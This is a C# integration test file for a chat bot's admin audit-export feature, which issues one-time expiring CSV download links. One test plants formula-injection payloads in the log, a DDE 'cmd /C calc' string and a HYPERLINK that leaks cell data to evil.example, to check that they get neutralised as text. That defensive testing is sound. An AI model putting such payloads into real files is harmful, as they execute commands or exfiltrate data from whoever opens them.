using System.Globalization;
using System.Net;
using System.Text.Json;
using System.Text.Json.Nodes;
using BotAlias.Core.Audit;
using BotAlias.Features.AuditExport;
using BotAlias.IntegrationTests.AliasRequests;
using BotAlias.IntegrationTests.Infrastructure;
using BotAlias.TestSupport;
using Microsoft.Extensions.DependencyInjection;

namespace BotAlias.IntegrationTests.AuditExport;

/// <summary>"export audit": a one-time, short-lived link for admins, and the CSV behind it.</summary>
public sealed class AuditExportTests : IDisposable
{
    private readonly MovableClock _clock = new();
    private readonly BotAliasFactory _bot;
    private readonly AuditExportConversation _export;

    public AuditExportTests()
    {
        _bot = new BotAliasFactory()
            .With("Outbox:PollInterval", "00:00:00.100")
            .WithServices(services => services.AddSingleton<TimeProvider>(_clock));
        _export = new AuditExportConversation(_bot);
    }

    public void Dispose() => _bot.Dispose();

    [Fact]
    public async Task An_admin_gets_a_card_with_a_download_button_and_its_expiry_and_the_request_is_audited()
    {
        var card = await _export.AskForLinkAsync(Person.Patti);

        var link = AuditExportConversation.Link(card);
        Assert.Equal("http://127.0.0.1:3978/audit/export", link.GetLeftPart(UriPartial.Path));
        Assert.StartsWith("?t=", link.Query, StringComparison.Ordinal);
        Assert.Contains("in 10 minutes", card.CardText, StringComparison.Ordinal);
        Assert.Contains("The link works once", card.CardText, StringComparison.Ordinal);
        var today = DateOnly.FromDateTime(_clock.GetUtcNow().UtcDateTime);
        Assert.Contains($"{today.AddDays(-29):yyyy-MM-dd} to {today:yyyy-MM-dd}", card.CardText, StringComparison.Ordinal);
        Assert.Contains(Uri.EscapeDataString(Person.Patti.ConversationId), card.Url.AbsolutePath, StringComparison.Ordinal);
        Assert.All(await AdaptiveCardsValidator.ValidateAsync(card.Cards[0].GetRawText()), complaint => Assert.Fail(complaint));

        var issued = Assert.Single(await _export.AuditOfTodayAsync(), e => e.Action == "audit.export-link");
        Assert.Equal((Person.Patti.AadObjectId, "Patti Fernandez"), (issued.ActorId, issued.ActorName));
        Assert.Contains($"\"from\":\"{today.AddDays(-29):yyyy-MM-dd}\"", issued.Details, StringComparison.Ordinal);
        Assert.DoesNotContain(link.Query[3..], issued.Details!, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_link_downloads_the_days_asked_for_as_csv_once_and_the_download_is_audited()
    {
        var today = DateOnly.FromDateTime(_clock.GetUtcNow().UtcDateTime);
        var first = today.AddDays(-6);
        var last = today.AddDays(-4);
        var log = _bot.Services.GetRequiredService<IAuditLog>();
        await log.AppendAsync(Entry(Midnight(first).AddTicks(-1), "request.created", "AR-BEFORE1"));
        await log.AppendAsync(Entry(Midnight(first), "request.created", "AR-FIRST01"));
        await log.AppendAsync(Entry(Midnight(last.AddDays(1)).AddTicks(-1), "request.approved", "AR-FIRST01"));
        await log.AppendAsync(Entry(Midnight(last.AddDays(1)), "request.created", "AR-AFTER01"));
        var card = await _export.AskForLinkAsync(Person.Patti, $"export audit {first:yyyy-MM-dd} {last:yyyy-MM-dd}");
        var link = AuditExportConversation.Link(card);

        var download = await _export.DownloadAsync(link);

        Assert.Equal(HttpStatusCode.OK, download.Status);
        Assert.Equal("text/csv; charset=utf-8", download.ContentType);
        Assert.Equal($"attachment; filename=botalias-audit_{first:yyyy-MM-dd}_{last:yyyy-MM-dd}.csv", download.ContentDisposition);
        Assert.Equal("no-store", download.CacheControl);
        Assert.Equal([0xEF, 0xBB, 0xBF], download.Body[..3]);
        var rows = download.Rows;
        Assert.Equal(AuditCsvWriter.Columns, rows[0]);
        Assert.Equal(
            [("request.created", "AR-FIRST01"), ("request.approved", "AR-FIRST01")],
            rows.Skip(1).Select(r => (r[3], r[4])));

        var again = await _export.DownloadAsync(link);
        Assert.Equal(HttpStatusCode.Gone, again.Status);
        Assert.Equal(AuditExportDownload.AlreadyUsed + "\n", again.Text);
        Assert.StartsWith("text/plain", again.ContentType, StringComparison.Ordinal);

        var exported = Assert.Single(await _export.AuditOfTodayAsync(), e => e.Action == "audit.exported");
        Assert.Equal((Person.Patti.AadObjectId, "Patti Fernandez"), (exported.ActorId, exported.ActorName));
        var details = JsonDocument.Parse(exported.Details!).RootElement;
        Assert.Equal(first.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture), details.GetProperty("from").GetString());
        Assert.Equal(last.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture), details.GetProperty("to").GetString());
        Assert.Equal(2, details.GetProperty("rows").GetInt32());
        Assert.True(details.GetProperty("completed").GetBoolean());
    }

    [Fact]
    public async Task The_default_export_holds_what_happened_in_the_alias_flow_today()
    {
        var flow = new AliasFlow(_bot);
        await flow.SubmitAsync(Person.Alex, "alex.w@example.com");
        var request = await flow.SingleRequestAsync(Person.Alex);
        var link = AuditExportConversation.Link(await _export.AskForLinkAsync(Person.Patti));

        var rows = (await _export.DownloadAsync(link)).Rows;

        var created = Assert.Single(rows, r => r[3] == "request.created");
        Assert.Equal((Person.Alex.AadObjectId, "Alex Wilber", request.Id, "alex.w@example.com"), (created[1], created[2], created[4], created[5]));
        Assert.Single(rows, r => r[3] == "audit.export-link" && r[2] == "Patti Fernandez");
    }

    [Fact]
    public async Task Values_a_spreadsheet_would_run_as_formulas_come_out_as_text()
    {
        var now = _clock.GetUtcNow();
        await _bot.Services.GetRequiredService<IAuditLog>().AppendAsync(new AuditEntry
        {
            At = now.AddMinutes(-1),
            ActorId = "00000000-0000-0000-0000-0000000000099",
            ActorName = "@SUM(1+1)*cmd|' /C calc'!A0",
            Action = "request.created",
            Details = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
        });
        var link = AuditExportConversation.Link(await _export.AskForLinkAsync(Person.Patti));

        var download = await _export.DownloadAsync(link);

        var row = Assert.Single(download.Rows, r => r[1] == "00000000-0000-0000-0000-0000000000099");
        Assert.Equal("'@SUM(1+1)*cmd|' /C calc'!A0", row[2]);
        Assert.Equal("'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")", row[8]);
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click me\"\")\"", download.Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_changed_or_truncated_or_missing_token_is_refused_without_revealing_anything()
    {
        var link = AuditExportConversation.Link(await _export.AskForLinkAsync(Person.Patti));
        var token = Uri.UnescapeDataString(link.Query[3..]);
        var flipped = token[..20] + (token[20] == 'A' ? 'B' : 'A') + token[21..];

        foreach (var forged in new[] { flipped, token[..^4], "abc", "", "%%%" })
        {
            var download = await _export.DownloadAsync(new Uri($"http://127.0.0.1:3978/audit/export?t={Uri.EscapeDataString(forged)}"));

            Assert.Equal(HttpStatusCode.Forbidden, download.Status);
            Assert.Equal(AuditExportDownload.Invalid + "\n", download.Text);
        }

        var missing = await _export.DownloadAsync(new Uri("http://127.0.0.1:3978/audit/export"));
        Assert.Equal(HttpStatusCode.Forbidden, missing.Status);
        Assert.DoesNotContain(await _export.AuditOfTodayAsync(), e => e.Action == "audit.exported");
        Assert.Equal(HttpStatusCode.OK, (await _export.DownloadAsync(link)).Status);
    }

    [Fact]
    public async Task A_link_opened_after_its_lifetime_is_gone_and_can_not_be_used_later_either()
    {
        var link = AuditExportConversation.Link(await _export.AskForLinkAsync(Person.Patti));
        _clock.Advance(TimeSpan.FromMinutes(10));

        var download = await _export.DownloadAsync(link);

        Assert.Equal(HttpStatusCode.Gone, download.Status);
        Assert.Equal(AuditExportDownload.Expired + "\n", download.Text);
        Assert.DoesNotContain(await _export.AuditOfTodayAsync(), e => e.Action == "audit.exported");
    }

    [Fact]
    public async Task The_sealed_expiry_holds_on_the_system_clock_too()
    {
        using var bot = new BotAliasFactory().With("AuditExport:LinkLifetime", "00:00:01");
        var export = new AuditExportConversation(bot);
        var card = await export.AskForLinkAsync(Person.Patti);
        Assert.Contains("in 1 second", card.CardText, StringComparison.Ordinal);

        await Task.Delay(TimeSpan.FromSeconds(1.5));
        var download = await export.DownloadAsync(AuditExportConversation.Link(card));

        Assert.Equal(HttpStatusCode.Forbidden, download.Status);
        Assert.Equal(AuditExportDownload.Invalid + "\n", download.Text);
    }

    [Fact]
    public async Task Someone_who_is_not_an_admin_is_refused_politely_and_gets_no_link()
    {
        var answer = await _export.AskForTextAsync(Person.Alex, "export audit 2026-11-01 2026-11-21");
        var badDates = await _export.AskForTextAsync(Person.Megan, "export audit 2026-13-45", activityId: "export-2");

        Assert.Equal(AuditExportCommand.NotAdmin, answer.Text);
        Assert.Equal(AuditExportCommand.NotAdmin, badDates.Text);
        Assert.DoesNotContain(_bot.Connector.Calls, c => c.Body?.GetRawText().Contains("/audit/export", StringComparison.Ordinal) == true);
        Assert.DoesNotContain(await _export.AuditOfTodayAsync(), e => e.Action.StartsWith("audit.", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("export audit 2026-13-01 2026-11-21", "\"2026-13-01\" is not a date I can read")]
    [InlineData("export audit 2026-11-21 2026-11-01", "The last day (2026-11-01) is before the first day (2026-11-21)")]
    [InlineData("export audit 2020-01-01 2022-01-01", "one export covers at most 366 days")]
    public async Task An_admin_with_unusable_dates_is_told_what_to_type_and_gets_no_link(string text, string expected)
    {
        var answer = await _export.AskForTextAsync(Person.Patti, text);

        Assert.Contains(expected, answer.Text, StringComparison.Ordinal);
        Assert.Empty(answer.Cards);
        Assert.DoesNotContain(await _export.AuditOfTodayAsync(), e => e.Action == "audit.export-link");
    }

    [Fact]
    public async Task Asked_in_a_channel_the_link_goes_to_the_private_chat_only()
    {
        var activity = Activities.MessageFrom(Person.Patti, "<at>BotAlias</at> export audit", conversationId: "19:general@thread.tacv2;messageid=1700000000001", activityId: "ch-1");
        activity["conversation"]!["conversationType"] = "channel";
        activity["conversation"]!["isGroup"] = true;
        activity["entities"] = new JsonArray(new JsonObject
        {
            ["type"] = "mention",
            ["text"] = "<at>BotAlias</at>",
            ["mentioned"] = new JsonObject { ["id"] = Activities.BotId, ["name"] = "BotAlias" },
        });

        (await _bot.PostActivityAsync(activity)).Dispose();

        var inChannel = await _bot.Connector.WaitForCallAsync(c => c.Text == "I've answered in our private chat.", "the short answer in the channel");
        Assert.Contains("19%3Ageneral", inChannel.Url.AbsolutePath, StringComparison.Ordinal);
        var card = await _bot.Connector.WaitForCallAsync(c => c.CardText.Contains(AuditExportConversation.CardTitle, StringComparison.Ordinal), "the card privately");
        Assert.DoesNotContain("19%3Ageneral", card.Url.AbsolutePath, StringComparison.Ordinal);
        Assert.DoesNotContain(_bot.Connector.Calls, c => c.Url.AbsolutePath.Contains("19%3Ageneral", StringComparison.Ordinal) && c.Body?.GetRawText().Contains("/audit/export", StringComparison.Ordinal) == true);
    }

    [Fact]
    public async Task A_file_cut_at_the_row_limit_says_so()
    {
        using var bot = new BotAliasFactory().With("AuditExport:MaxRows", "2");
        var log = bot.Services.GetRequiredService<IAuditLog>();
        var now = DateTimeOffset.UtcNow;
        for (var i = 0; i < 3; i++)
        {
            await log.AppendAsync(Entry(now.AddMinutes(i - 10), "request.created", $"AR-LIMIT{i}"));
        }

        var export = new AuditExportConversation(bot);
        var rows = (await export.DownloadAsync(AuditExportConversation.Link(await export.AskForLinkAsync(Person.Patti)))).Rows;

        Assert.Equal(["AR-LIMIT0", "AR-LIMIT1"], rows.Skip(1).Take(2).Select(r => r[4]));
        Assert.Equal(4, rows.Count);
        Assert.Equal("(note)", rows[3][3]);
        Assert.Contains("Only the first 2 entries", rows[3][8], StringComparison.Ordinal);
        var exported = Assert.Single(await export.AuditOfTodayAsync(), e => e.Action == "audit.exported");
        Assert.Contains("\"truncated\":true", exported.Details, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_link_made_for_someone_who_is_no_longer_an_admin_is_refused_and_the_attempt_audited()
    {
        // Isaiah is an admin while the admins group is Finance; after a restart with the usual group, he is not.
        var dataFolder = Path.Combine(Path.GetTempPath(), "botalias-tests", Guid.NewGuid().ToString("N"));
        Uri link;
        using (var before = new BotAliasFactory(dataFolder).With("People:AdminsGroup", "Finance"))
        {
            var isaiah = new Person("Isaiah Langer", "00000000-0000-0000-0000-0000000000023", "29:isaiah", "a:isaiah-personal");
            link = AuditExportConversation.Link(await new AuditExportConversation(before).AskForLinkAsync(isaiah));
        }

        try
        {
            using var after = new BotAliasFactory(dataFolder);
            var export = new AuditExportConversation(after);

            var download = await export.DownloadAsync(link);

            Assert.Equal(HttpStatusCode.Forbidden, download.Status);
            Assert.Equal(AuditExportDownload.NoLongerAdmin + "\n", download.Text);
            var audit = await export.AuditOfTodayAsync();
            var refused = Assert.Single(audit, e => e.Action == "audit.export-refused");
            Assert.Equal("Isaiah Langer", refused.ActorName);
            Assert.DoesNotContain(audit, e => e.Action == "audit.exported");
        }
        finally
        {
            try
            {
                System.IO.Directory.Delete(dataFolder, recursive: true);
            }
            catch (IOException)
            {
                // SQLite may hold the file a moment longer; the temp folder is cleaned by the OS.
            }
        }
    }

    private static DateTimeOffset Midnight(DateOnly day) => new(day.ToDateTime(TimeOnly.MinValue), TimeSpan.Zero);

    private static AuditEntry Entry(DateTimeOffset at, string action, string requestId) => new()
    {
        At = at,
        ActorId = "botalias",
        ActorName = "BotAlias",
        Action = action,
        RequestId = requestId,
    };
}
